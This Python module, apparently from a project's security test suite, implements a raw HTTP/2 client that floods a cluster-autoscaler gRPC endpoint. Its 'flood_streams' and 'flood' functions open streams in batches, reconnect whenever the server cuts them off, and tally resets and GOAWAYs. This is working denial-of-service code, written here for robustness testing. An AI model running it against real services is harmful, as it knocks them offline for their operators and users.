"""A client of HTTP/2 that keeps no rules but those that it is told to keep."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import time
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path

import hpack

from tests.attacks import frames

METHOD = "/clusterautoscaler.cloudprovider.v1.externalgrpc.CloudProvider/NodeGroups"
_BATCH = 100  # streams in one write
_MOST_HEADERS = 1000  # blocks that are decoded, of one connection


@dataclass(frozen=True, kw_only=True)
class Target:
    """Whom to attack, for how long, and how much at most."""

    host: str
    port: int
    ca: Path | None = None
    cert: Path | None = None
    key: Path | None = None
    seconds: float = 10.0
    connections: int = 1
    streams: int = 1_000_000  # of one connection

    def context(self) -> ssl.SSLContext | None:
        if self.ca is None:
            return None
        context = ssl.create_default_context(cafile=str(self.ca))
        context.check_hostname = False
        context.set_alpn_protocols(["h2"])
        if self.cert is not None and self.key is not None:
            context.load_cert_chain(self.cert, self.key)
        return context


@dataclass
class Toll:
    """What an attack could do."""

    connected: int = 0
    refused: int = 0  # connections that were closed, or not taken
    streams: int = 0
    answered: int = 0  # streams that ended with headers
    reset: int = 0  # streams that the server reset
    errors: list[str] = field(default_factory=list)


class Http2:
    """A connection that has sent its preface, answers SETTINGS and PING, and counts what else comes."""

    def __init__(self, target: Target, toll: Toll) -> None:
        self._target = target
        self._toll = toll
        self._reading: asyncio.Task[None] | None = None
        self.last_stream = -1
        self.is_open = True
        self.headers_of: dict[int, bytes] = {}  # of the first answers: a line for each header
        self.went_away: int | None = None  # the code of the server's GOAWAY
        self._decoder = hpack.Decoder()
        self._greeted = asyncio.Event()
        self.in_headers = False  # then nothing else may be sent

    async def open(self) -> None:
        context = self._target.context()
        self._reader, self._writer = await asyncio.open_connection(
            self._target.host, self._target.port, ssl=context, limit=1 << 20
        )
        self._toll.connected += 1
        await self.write(frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0))
        self._reading = asyncio.create_task(self._read())
        async with asyncio.timeout(10):
            await self._greeted.wait()

    def next_stream(self) -> int:
        self.last_stream += 2
        self._toll.streams += 1
        return self.last_stream

    async def write(self, payload: bytes) -> None:
        if self._writer.is_closing():
            raise ConnectionResetError("the server has closed it")
        self._writer.write(payload)
        await self._writer.drain()

    async def ended(self, until: float) -> None:
        """Waits until the server has closed it, or until that time."""
        assert self._reading is not None
        await asyncio.wait([self._reading], timeout=max(0.0, until - time.monotonic()))

    async def close(self) -> None:
        if self._reading is not None:
            self._reading.cancel()
        with contextlib.suppress(OSError, AttributeError):
            self._writer.transport.abort()

    async def _read(self) -> None:
        buffer = bytearray()
        with contextlib.suppress(OSError):
            while some := await self._reader.read(1 << 16):
                buffer += some
                for kind, flags, stream, payload in frames.split(buffer):
                    if kind == frames.HEADERS:
                        self._toll.answered += 1
                        self._keep_headers(stream, payload)
                    elif kind == frames.RST_STREAM:
                        self._toll.reset += 1
                    elif kind == frames.GOAWAY:
                        self.went_away = int.from_bytes(payload[4:8], "big")
                    elif kind in (frames.SETTINGS, frames.PING) and not flags & frames.ACK:
                        answer = payload if kind == frames.PING else b""
                        if not self.in_headers:
                            self._writer.write(frames.frame(kind, frames.ACK, 0, answer))
                        self._greeted.set()
        self.is_open = False
        self._greeted.set()

    def _keep_headers(self, stream: int, block: bytes) -> None:
        if len(self.headers_of) < _MOST_HEADERS:
            headers = self._decoder.decode(block, raw=True)
            lines = b"".join(bytes(name) + b": " + bytes(value) + b"\n" for name, value in headers)
            self.headers_of[stream] = self.headers_of.get(stream, b"") + lines


@contextlib.asynccontextmanager
async def connected_to(target: Target, toll: Toll) -> AsyncIterator[Http2]:
    connection = Http2(target, toll)
    try:
        await connection.open()
        yield connection
    finally:
        await connection.close()


async def flood_streams(target: Target, toll: Toll, until: float, make: Callable[[int], bytes]) -> None:
    """Opens stream after stream; connects again when it is cut off."""
    while time.monotonic() < until:
        async with connected_to(target, toll) as connection:
            while connection.is_open and time.monotonic() < until and connection.last_stream < 2 * target.streams:
                await connection.write(b"".join(make(connection.next_stream()) for _ in range(_BATCH)))
                await asyncio.sleep(0)
            await connection.ended(until)
        await asyncio.sleep(0.01)


async def flood(connection: Http2, block: bytes) -> None:
    """Opens streams without bodies until the server closes the connection."""
    async with asyncio.timeout(30):
        while connection.is_open:
            with contextlib.suppress(OSError):
                await connection.write(b"".join(frames.headers(connection.next_stream(), block) for _ in range(50)))
            await asyncio.sleep(0.05)
